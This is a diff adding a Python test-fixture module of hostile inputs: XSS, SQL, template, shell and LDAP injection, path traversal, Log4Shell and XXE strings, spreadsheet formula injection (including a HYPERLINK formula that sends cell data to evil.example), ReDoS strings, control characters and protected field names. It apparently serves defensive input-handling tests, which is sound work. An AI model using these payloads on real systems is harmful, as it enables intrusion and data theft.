@@ -1,0 +1,208 @@
+"""Input that hurts: what attackers, programs and unlucky pastes send, by kind."""
+
+from dataclasses import dataclass
+
+#: Texts that some program takes for its own: markup, templates, queries, commands, formulas. All are texts to keep.
+MARKUP = [
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "<svg/onload=alert(1)>",
+    "javascript:alert(1)",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "{{constructor.constructor('alert(1)')()}}",
+    "'-alert(1)-'",
+    '<a href="java\tscript:alert(1)">x</a>',
+    "<img src=x:alert(1) onerror=eval(src)>",
+    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
+    "data:text/html,<script>alert(1)</script>",
+    "--><script>alert(1)</script><!--",
+    "]]><script>alert(1)</script>",
+    "<b>bold</b> &amp; &lt;i&gt;",
+    "' onmouseover='alert(1)",
+    "`-alert(1)-`",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+]
+COMMANDS = [
+    "' OR '1'='1",
+    "'; DROP TABLE function; --",
+    '" UNION SELECT password_hash FROM user --',
+    "\\'; SELECT 1; --",
+    "%s %d %(name)s %n",
+    "{{ 7 * 7 }}",
+    "{% raw %}{{ config }}",
+    "${7*7} #{7*7} <%= 7*7 %>",
+    "{0.__class__} {city!r:>{width}}",
+    "$(id) `id` | id; id && id",
+    "../../../etc/passwd",
+    "file:///etc/passwd",
+    "() { :; }; echo x",
+    "${jndi:ldap://evil.example/x}",
+    "*)(uid=*))(|(uid=*",
+    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
+    "__proto__[x]=1",
+    "nan; null; None; undefined; true",
+    "2026-11-22 ERROR forged line",
+    "\\x00 \\u0000 %00 &#0;",
+]
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "@SUM(1,1)",
+    "\N{FULLWIDTH EQUALS SIGN}1+1",
+    '=HYPERLINK("http://evil.example/?"&A1,"klikkaa")',
+    "%0A-3+3+cmd|' /C calc'!D2",
+    "'=1+1",
+    "|=1+1",
+    "+358 40 123 4567",
+    "-",
+]
+SCRIPTS = [
+    "Äiti söi öljyä Åbossa",
+    "a\N{COMBINING DIAERESIS}iti o\N{COMBINING DIAERESIS}ljy",
+    "😀👩‍👩‍👧‍👦🇫🇮",
+    "עברית العربية 日本語",
+    "\N{RIGHT-TO-LEFT OVERRIDE}txt.exe\N{POP DIRECTIONAL FORMATTING}",
+    "\N{ZERO WIDTH SPACE}nolla\N{ZERO WIDTH JOINER}leveys",
+    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
+    "tab\there",
+    "İstanbul ẞ ß ﬁ ＡＢＣ ½",
+]
+#: What no text may hold, with the sign that a page shows for it.
+DAMAGED = {
+    "NUL": "a\x00b",
+    "bell": "a\x07b",
+    "escape": "a\x1b[31mb",
+    "delete": "a\x7fb",
+    "C1 control": "a\x9b31mb",
+    "noncharacter": "a\ufffeb",
+    "noncharacter of an upper plane": "a\U0010ffffb",
+    "noncharacter of a block": "a\ufdd0b",
+    "half of a character, as a browser sends it": "a\ufffdb",
+    "a pile of accents": "a" + "\N{COMBINING GRAVE ACCENT BELOW}" * 31,
+}
+#: Texts over which a careless pattern would think for minutes.
+SLOW = {
+    "one letter": "a" * 50_000 + "!",
+    "at signs": "@" * 50_000,
+    "addresses": "a@" * 20_000,
+    "blanks": " " * 60_000 + "x",
+    "digits": "1" * 60_000 + "x",
+    "points": "a." * 30_000 + "x",
+    "tabs": "\t" * 60_000 + "x",
+    "brackets": "(" * 10_000 + ")" * 10_000,
+    "dashes": "-" * 60_000,
+    "a telephone number": "+358" + " " * 60_000,
+    "groups": "1 " * 30_000,
+    "accents": "a" + "\N{COMBINING DIAERESIS}" * 60_000,
+    "accents above and below in turn": "a" + "\N{COMBINING DIAERESIS}\N{COMBINING GRAVE ACCENT BELOW}" * 30_000,
+}
+NO_FIGURES = {
+    "text": "neljä",
+    "400 digits": "9" * 400,
+    "5000 digits": "9" * 5000,
+    "not a number": "NaN",
+    "infinity": "Infinity",
+    "too large for a float": "1e400",
+    "hexadecimal": "0x1F",
+    "underscore": "1_000",
+    "superscript": "10²",
+    "fraction": "½",
+    "other digits": "٤",
+    "two commas": "1,2,3",
+    "point and comma": "1.234,5",
+    "formula": "=1+1",
+    "JSON": '{"a": 1}',
+    "list": "[1]",
+    "NUL": "1\x00",
+    "half of a character": "1\ufffd",
+    "markup": '"><script>alert(1)</script>',
+    "date serial": "46082.5.1",
+}
+NO_DATES = {
+    "text": "huomenna",
+    "year 0": "1.1.0000",
+    "year 26": "1.1.0026",
+    "no such day": "31.2.2026",
+    "no leap year": "29.2.2027",
+    "American": "12/31/2026",
+    "with a time": "2026-12-31T00:00:00Z",
+    "year 10000": "1.1.10000",
+    "serial": "46082",
+    "400 digits": "9" * 400,
+    "other digits": "٤.٤.٢٠٢٦",
+    "NUL": "1.1.2026\x00",
+    "markup": '"><script>alert(1)</script>',
+}
+NO_CHOICES = {
+    "unknown word": "no-such-word",
+    "number": "999",
+    "somebody else's record": "F-WAT-02",
+    "markup": '"><script>alert(1)</script>',
+    "NUL": "x\x00",
+    "10 kB": "x" * 10_000,
+    "reference": "00000000-0000-4000-8000-000000000000",
+}
+ODD_VERSIONS = [
+    "",
+    "0",
+    "-1",
+    "999999",
+    "9" * 400,
+    "9" * 5000,
+    "1.9.9",
+    "1." + "9" * 30,
+    "x",
+    "\x00",
+    "1e9",
+    "<b>",
+    "a" * 60_000,
+]
+#: Columns that a record has and that no form may set.
+PROTECTED = [
+    "id",
+    "ref",
+    "code",
+    "state",
+    "standing",
+    "owner_path",
+    "organisation_id",
+    "sector_id",
+    "owner_id",
+    "created_at",
+    "confirmed_on",
+    "approved",
+    "approved_by",
+    "approved_on",
+    "reviewed_on",
+    "answered_by",
+    "return_reason",
+    "retired",
+    "active",
+    "version_id",
+    "secrecy",
+    "search_text",
+    "sort_name",
+    "is_admin",
+    "role",
+    "user_id",
+    "password_hash",
+    "__class__",
+    "__proto__",
+    "_method",
+    "name_fi-x",
+    "suppliers[]",
+    "x",
+    "",
+]
+
+
+@dataclass(frozen=True)
+class Row:
+    """A line of the table that a run prints: what was sent where, what came of it, and whether the text was kept."""
+
+    kind: str
+    where: str
+    status: str
+    kept: str
